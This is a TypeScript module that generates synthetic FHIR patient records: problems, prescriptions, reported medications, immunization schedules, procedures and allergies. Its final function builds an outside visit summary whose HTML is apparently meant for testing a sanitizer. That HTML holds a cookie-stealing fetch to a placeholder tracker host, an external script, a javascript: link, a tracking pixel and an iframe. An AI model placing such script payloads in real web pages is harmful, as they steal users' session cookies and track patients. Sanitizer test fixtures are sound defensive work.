/**
 * The long-running part of a record: problem list, prescriptions, what the
 * patient says they take, immunizations, procedures and allergies. These are
 * kept whatever the size of the record; visits come and go around them.
 */
import type { Resource } from '@medplum/fhirtypes';
import { buildAllergies } from './allergies.js';
import { referenceTo, type AnyReference } from './builder.js';
import {
  buildCondition, buildDocument, buildImmunization, buildMedication, buildMedicationRequest, buildMedicationStatement, buildProcedure,
  organizationReference, practitionerReference,
} from './clinical.js';
import { type PatientContext, ageInYears } from './context.js';
import { type PlannedVisit, encounterReference, historyStart, visitNear } from './plan.js';
import type { Random } from './random.js';
import { CHILD_SCHEDULE, type MedicationProductName, type VaccineName } from './terminology.js';
import { DAY, HOUR, MINUTE, YEAR, atLocalHour, dateTime } from './time.js';

const STOP_REASONS = ['Side effect: dizziness', 'Changed to a once-daily alternative', 'No longer needed', 'Patient preference'];

export function generateStory(context: PatientContext, rng: Random, visits: PlannedVisit[]): Resource[] {
  const out: Resource[] = [];
  const start = historyStart(context);
  const encounterAt = (at: number, tolerance = HOUR): AnyReference | undefined => {
    const visit = visitNear(visits, at, tolerance);
    return visit ? encounterReference(visit) : undefined;
  };
  const pcp = practitionerReference(context.pcp);

  // Medication resources, one per product the record prescribes.
  const products = new Map<MedicationProductName, AnyReference>();
  for (const plan of context.spec.conditions) {
    for (const med of plan.meds ?? []) {
      if (med.product && !products.has(med.product)) {
        const medication = buildMedication(context, med.product);
        out.push(medication);
        products.set(med.product, referenceTo(medication, medication.code?.coding?.[0].display));
      }
    }
  }

  // Problems and the prescriptions written for them.
  const conditionReferences = new Map<string, AnyReference>();
  for (const condition of context.conditions) {
    const { plan } = condition;
    const diagnosedAt = visits.find((visit) => visit.diagnoses.includes(condition));
    const prescriber = plan.specialist ? practitionerReference(plan.specialist) : diagnosedAt ? practitionerReference(diagnosedAt.practitioner) : pcp;
    const recorded = Math.max(condition.onset, Math.min(start, context.end - DAY)) + rng.int(5, 90) * MINUTE;
    const resource = buildCondition(context, {
      name: plan.name,
      onset: condition.onset,
      onsetAs: plan.onsetAs,
      onsetText: plan.onsetText,
      resolved: condition.resolved,
      inactive: plan.inactive,
      verification: plan.verification,
      severity: plan.severity,
      category: condition.resolved !== undefined || diagnosedAt?.kind === 'emergency' ? 'encounter-diagnosis' : 'problem-list-item',
      encounter: diagnosedAt ? encounterReference(diagnosedAt) : undefined,
      recorded: diagnosedAt ? Math.min(diagnosedAt.end, condition.onset + 30 * MINUTE) : recorded,
      recorder: prescriber,
    });
    out.push(resource);
    const conditionReference = referenceTo(resource, resource.code?.text);
    if (!conditionReferences.has(plan.name)) conditionReferences.set(plan.name, conditionReference);
    diagnosedAt?.diagnosisReferences.push(conditionReference);
    if (plan.verification === 'refuted' || plan.verification === 'entered-in-error') continue;

    for (const med of plan.meds ?? []) {
      const begun = Math.min(context.end - DAY, condition.onset + (med.startAfterDays ?? 0) * DAY);
      let authored = begun;
      let encounter = encounterAt(begun, DAY);
      // A long-running prescription is renewed: the current order dates from a recent visit.
      if (med.status === 'active' && begun < context.end - 2 * YEAR) {
        const renewal = [...visits].reverse().find((visit) => (visit.kind === 'checkup' || visit.kind === 'followup') && visit.start > begun);
        authored = renewal ? renewal.start + 20 * MINUTE : context.end - rng.int(30, 300) * DAY;
        encounter = renewal ? encounterReference(renewal) : undefined;
      }
      const until = med.days !== undefined ? begun + med.days * DAY : med.status === 'active' ? authored + YEAR : undefined;
      out.push(
        buildMedicationRequest(context, {
          med: med.med,
          product: med.product ? { name: med.product, reference: products.get(med.product) as AnyReference } : undefined,
          status: med.status,
          authored,
          until,
          encounter,
          requester: prescriber,
          reason: conditionReference,
          inpatient: diagnosedAt?.kind === 'inpatient',
          stopReason: med.status === 'stopped' ? rng.pick(STOP_REASONS) : undefined,
        }),
      );
    }
  }

  // What the patient reports taking.
  for (const statement of context.spec.statements) {
    const begun = Math.max(context.birth + 30 * DAY, context.end - statement.yearsAgo * YEAR);
    const end = statement.days !== undefined ? begun + statement.days * DAY : undefined;
    out.push(
      buildMedicationStatement(context, {
        med: statement.med,
        text: statement.text,
        status: statement.status,
        start: begun,
        end,
        asserted: Math.min(context.end - DAY, (end ?? begun) + rng.int(1, 60) * DAY),
        dosage: statement.dosage,
      }),
    );
  }

  out.push(...immunizations(context, rng, visits, start));

  // Procedures.
  for (const procedure of context.spec.procedures) {
    const at = procedure.age !== undefined ? context.birth + procedure.age * YEAR : context.end - (procedure.yearsAgo ?? 0) * YEAR;
    const host = visits.find((visit) => visit.procedures.includes(procedure));
    const reasonCondition = procedure.reason ? conditionReferences.get(procedure.reason) : undefined;
    if (procedure.inpatient) {
      const begin = host ? host.start + 3 * HOUR : atLocalHour(at, 9);
      out.push(buildProcedure(context, {
        name: procedure.name,
        start: begin,
        end: begin + rng.int(70, 150) * MINUTE,
        encounter: host ? encounterReference(host) : undefined,
        performer: practitionerReference(host ? 'hospitalist' : context.pcp),
        reason: reasonCondition,
      }));
    } else {
      out.push(buildProcedure(context, {
        name: procedure.name,
        start: host ? host.start + 15 * MINUTE : atLocalHour(at, 10),
        encounter: host ? encounterReference(host) : undefined,
        performer: practitionerReference(host?.practitioner ?? context.pcp),
        reason: reasonCondition,
      }));
    }
  }

  // Allergies, recorded by the primary care provider.
  out.push(...buildAllergies(context, rng, pcp, (at) => encounterAt(at, HOUR)));

  if (context.spec.quirks) out.push(outsideRecords(context, rng));
  return out;
}

function immunizations(context: PatientContext, rng: Random, visits: PlannedVisit[], start: number): Resource[] {
  const out: Resource[] = [];
  const nurse = practitionerReference('nurse');
  const pharmacy = organizationReference('pharmacy');
  const profile = context.profile;
  const doses = new Map<VaccineName, number>();
  const give = (vaccine: VaccineName, at: number, notDone?: 'PATOBJ' | 'MEDPREC' | 'OSTOCK'): void => {
    if (at > context.end - DAY || at < context.birth) return;
    const visit = visitNear(visits, at, 3 * DAY, ['checkup', 'birth', 'followup']);
    const dose = notDone ? undefined : (doses.get(vaccine) ?? 0) + 1;
    if (dose) doses.set(vaccine, dose);
    out.push(buildImmunization(context, rng, {
      vaccine,
      at: visit ? Math.min(visit.end, visit.start + rng.int(20, 40) * MINUTE) : atLocalHour(at, rng.float(9, 18)),
      encounter: visit ? encounterReference(visit) : undefined,
      // Children are vaccinated in the practice; adults without a visit at the pharmacy.
      performer: visit || ageInYears(context, at) < 18 ? nurse : pharmacy,
      notDone,
      dose,
    }));
  };

  // The childhood schedule; a parent declines one rotavirus dose, an HPV dose is deferred.
  for (const [months, vaccines] of CHILD_SCHEDULE) {
    const at = context.birth + months * 30.44 * DAY + (months === 0 ? 6 * HOUR : 0);
    if (at < start - DAY && ageInYears(context, context.end) >= 18) continue;
    for (const vaccine of vaccines) {
      const declined = (profile === 'infant' && vaccine === 'rotavirus' && months === 6) || (profile === 'adolescent' && vaccine === 'hpv' && months === 138);
      give(vaccine, at, declined ? (vaccine === 'hpv' ? 'MEDPREC' : 'PATOBJ') : undefined);
      if (declined && vaccine === 'hpv') give(vaccine, at + 200 * DAY);
    }
  }

  // Seasonal influenza from six months of age, usually in October.
  const firstSeason = Math.max(start, context.birth + 0.5 * YEAR);
  for (let year = new Date(firstSeason).getUTCFullYear(); year <= new Date(context.end).getUTCFullYear(); year++) {
    const at = Date.UTC(year, 9, 1) + rng.int(0, 45) * DAY;
    if (at < firstSeason || !rng.chance(ageInYears(context, at) >= 65 ? 0.85 : 0.6)) continue;
    give('flu', at);
  }

  const adultFrom = Math.max(start, context.birth + 18 * YEAR);
  if (adultFrom < context.end) {
    // COVID-19 primary series in spring 2021.
    if (adultFrom <= Date.UTC(2021, 2, 1) && context.end > Date.UTC(2021, 5, 1) && rng.chance(0.9)) {
      give('covid', Date.UTC(2021, 2, 10) + rng.int(0, 20) * DAY);
      give('covid', Date.UTC(2021, 3, 15) + rng.int(0, 20) * DAY);
    }
    if (rng.chance(0.7)) give('tdap', adultFrom + rng.float(0.1, 0.9) * (context.end - adultFrom));
    if (ageInYears(context, context.end) >= 55) {
      const at = Math.max(adultFrom, context.birth + 50 * YEAR) + rng.int(30, 600) * DAY;
      // The pharmacy was out of stock; given two months later.
      give('zoster', at, profile === 'elderly' ? 'OSTOCK' : undefined);
      give('zoster', at + 62 * DAY);
    }
    if (ageInYears(context, context.end) >= 66) give('ppsv23', Math.max(adultFrom, context.birth + 65 * YEAR + 40 * DAY));
  }
  return out;
}

/** An outside summary whose HTML carries a script and a tracking pixel, for sanitizer tests. */
function outsideRecords(context: PatientContext, rng: Random): Resource {
  const at = atLocalHour(context.end - rng.int(500, 700) * DAY, 14.25);
  const body = [
    '<!DOCTYPE html>',
    '<html><head><title>Visit summary</title><script src="https://cdn.tracker.example/analytics.js"></script></head>',
    '<body onload="track()">',
    '<h1>Valley Urgent Care: visit summary</h1>',
    `<p>Seen on ${dateTime(at).slice(0, 10)} for a sore throat. Rapid strep <b>negative</b>.</p>`,
    '<p>Plan: fluids, rest, ibuprofen as needed. Return if fever persists beyond 3 days.</p>',
    '<script>fetch("https://tracker.example/steal?c=" + document.cookie)</script>',
    '<img src="https://tracker.example/pixel.gif?patient=1" width="1" height="1" alt="">',
    '<p><a href="javascript:alert(1)">View full record</a></p>',
    '<iframe src="https://tracker.example/frame"></iframe>',
    '</body></html>',
  ].join('\n');
  return buildDocument(context, {
    type: 'summary',
    at,
    author: { display: 'Valley Urgent Care' },
    custodian: organizationReference('clinic'),
    title: 'Outside records: Valley Urgent Care',
    contentType: 'text/html',
    body,
  });
}
